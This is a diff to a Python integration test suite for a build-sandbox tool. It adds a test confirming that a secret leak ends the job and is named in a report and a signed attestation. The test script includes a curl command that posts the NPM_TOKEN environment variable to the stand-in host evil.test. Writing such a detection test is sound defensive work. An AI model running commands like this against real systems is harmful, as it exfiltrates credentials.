@@ -10,6 +10,7 @@ Real clients (curl, Python's ssl and urllib, dig) against real servers on loopba
 with a certificate from a CA this test makes, a plain HTTP server, both recording the bodies they
 got, and a dnsmasq naming them under .test. Nothing leaves loopback.
 """
+import base64
 import http.server
 import json
 import os
@@ -151,21 +152,21 @@ class Secrets(RwTestCase):
         self.home = os.path.join(self.tmp, "home")
         os.makedirs(self.home, exist_ok=True)
 
-    def policy(self, mode):
+    def policy(self, mode, extra=""):
         path = os.path.join(self.tmp, "policy.yaml")
         with open(path, "w") as f:
             f.write(f"version: 1\nmode: {mode}\nallow:\n"
                     f"  - host: good.test\n  - host: evil.test\n  - host: exfil.test\n"
                     f"  - ip: {DNS}\n"
                     f"dns:\n  upstream: {DNS}\n"
-                    f"secrets:\n  allow:\n    - env: NPM_TOKEN\n      to: [good.test]\n")
+                    f"secrets:\n  allow:\n    - env: NPM_TOKEN\n      to: [good.test]\n" + extra)
         return path
 
-    def job(self, script, mode="enforce", env=None, tag="out"):
+    def job(self, script, mode="enforce", env=None, tag="out", sign=False, extra=""):
         out = os.path.join(self.tmp, tag)
         argv = ["unshare", "-m", "--propagation", "private", "sh", "-c", RESOLV, "sh",
-                RW, "run", "--out", out, "--no-sign", "--policy", self.policy(mode),
-                "--mode", mode, "--", "sh", "-c", script]
+                RW, "run", "--out", out] + ([] if sign else ["--no-sign"]) + [
+                "--policy", self.policy(mode, extra), "--mode", mode, "--", "sh", "-c", script]
         e = dict(os.environ, RW_RESOLV=self.resolv, CA=self.ca, HOME=self.home,
                  SPLIT=self.split, NPM_TOKEN=NPM_TOKEN)
         e.update(env or {})
@@ -317,6 +318,24 @@ class Secrets(RwTestCase):
         self.assertIn("dns_name", f[0]["description"])
         self.assertNowhere(run, NPM_TOKEN)
         del log
+
+    def test_lockdown_report_and_signed_statement(self):
+        """`on_finding: {high: kill}`: the leak ends the job (86); the report and the signed
+        statement name it; no file of the run holds the value."""
+        run = self.job('curl -sS --cacert "$CA" -o /dev/null -d "t=$NPM_TOKEN" '
+                       'https://evil.test:8443/up; echo curl=$?; sleep 5; echo AFTER',
+                       sign=True, extra="on_finding:\n  high: kill\n")
+        self.assertEqual(run.rc, 86, run.stderr)
+        self.assertNotIn("AFTER", run.stdout)
+        self.assertFalse(self.srv.got(NPM_TOKEN))
+        rep = subprocess.run([RW, "report", run.outdir], capture_output=True, text=True)
+        self.assertIn("secret_leak", rep.stdout)
+        self.assertIn("NPM_TOKEN", rep.stdout)
+        with open(os.path.join(run.outdir, "attestation.dsse.json")) as f:
+            stmt = json.loads(base64.b64decode(json.load(f)["payload"]))
+        kinds = [x["kind"] for x in stmt["predicate"]["monitorLog"]["findings"]]
+        self.assertIn("secret_leak", kinds)
+        self.assertNowhere(run, NPM_TOKEN)
 
     # ------------------------------------------------------------ no false positives
 
